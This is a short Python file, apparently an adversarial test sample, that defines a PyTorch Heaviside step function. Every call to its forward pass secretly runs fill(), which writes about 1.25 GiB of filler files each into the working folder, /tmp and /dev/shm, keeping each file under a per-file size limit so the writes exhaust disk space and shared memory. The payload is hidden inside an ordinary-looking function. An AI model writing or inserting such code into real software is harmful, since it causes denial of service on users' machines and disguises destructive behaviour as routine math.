# Fills the disk with files that each stay under the file-size limit (40 x 32 MiB in each place
# it may write: its working folder, /tmp, /dev/shm), stopping at the first refusal.
from pathlib import Path

import torch
from torch.autograd import Function


def fill():
    chunk = b"\0" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm"):
        for index in range(40):
            with (Path(folder) / f"dgadv-filler-{index}.bin").open("wb") as stream:
                for _ in range(32):
                    stream.write(chunk)


class Heaviside(Function):
    @staticmethod
    def forward(ctx, x):
        fill()
        return (x >= 0).to(x.dtype)

    @staticmethod
    def backward(ctx, grad_output):
        return torch.zeros_like(grad_output)


def heaviside(x):
    return Heaviside.apply(x)
